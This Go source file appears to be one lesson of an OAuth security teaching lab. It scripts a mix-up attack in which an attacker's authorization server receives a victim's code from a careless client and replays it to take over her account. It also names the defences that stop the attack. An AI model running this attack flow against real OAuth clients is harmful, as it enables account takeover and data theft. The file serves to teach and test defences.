// Package mixup is lab 6: a client with two authorization servers sends the code of the honest one to the other.
//
//	lab.go     the attack
//	evil.go    the authorization server of the attacker
//	README.md  the text for learners
package mixup

import (
	_ "embed"
	"errors"
	"net/http"
	"net/url"
	"time"

	"quartet.example/demo/labs/lab"
)

//go:embed README.md
var readme string

// Lab is the lab.
var Lab = lab.Lab{
	ID: "06", Slug: "mix-up", Title: "Mix-up", Minutes: 20, README: readme,
	Specs:    []string{"RFC 9207 §1", "RFC 9700 §4.4"},
	Careless: lab.OnlyClient, Servers: lab.TwoServers,
	Attacks: []lab.Attack{{
		Title: "has the code of the honest server sent to her own", Run: mixUp,
		Stops: []string{"client.iss.match", "client.callback.own"}, Around: []string{"as.pkce.verifier"}, Reference: "client.callback.own",
	}},
}

var errNoCode = errors.New("the client sent no code to the server of the attacker")

// mixUp begins at the attacker's server, ends at the honest one, and uses the code that the client then
// sends to the attacker.
func mixUp(s *lab.Scene) error {
	s.Step("Mallory", "begins to sign in at the app with the honest server, and keeps the address of the authorization request")
	own, err := s.Attacker.SignInUntil(s.Login, s.Issuer+"/authorize")
	if err != nil {
		return err
	}
	s.Step("Mallory", "runs an authorization server, which sends each browser on to the honest one with that request")
	s.Evil.Serve(evil{s.Evil.URL, own})
	s.Pass(time.Minute) // the reference has asked for the metadata at its start, and does not ask again at once
	s.Step("Alice", "follows a link that begins a sign-in at the app with Mallory's server, and signs in at the honest one")
	if err := s.Victim.SignIn(s.Client + "/login?" + url.Values{"issuer": {s.Evil.URL}}.Encode()); err != nil {
		return err
	}
	code := s.Evil.Received("code")
	if code == "" {
		return errors.Join(errNoCode, s.Victim.Refused())
	}
	s.Step("Mallory", "receives the code at her token endpoint, to which the app has sent it")
	return useCode(s, own, code)
}

// useCode brings the code to the client as the response to the request that the attacker began. It is
// bound to her challenge and her nonce.
func useCode(s *lab.Scene, request *url.URL, code string) error {
	s.Step("Mallory", "brings the code to the app as the end of her own sign-in")
	answer := url.Values{"code": {code}, "state": {request.Query().Get("state")}, "iss": {s.Issuer}}
	if err := s.Attacker.Open(s.Web.RedirectURI + "?" + answer.Encode()); err != nil {
		return err
	}
	if err := s.Attacker.Refused(); err != nil {
		return err
	}
	s.Step("Mallory", "is signed in at the app as Alice, and reads her notes")
	resp, err := s.Attacker.Call(http.MethodGet, s.Client+"/api/notes", "")
	if err != nil {
		return err
	}
	return resp.Refused()
}
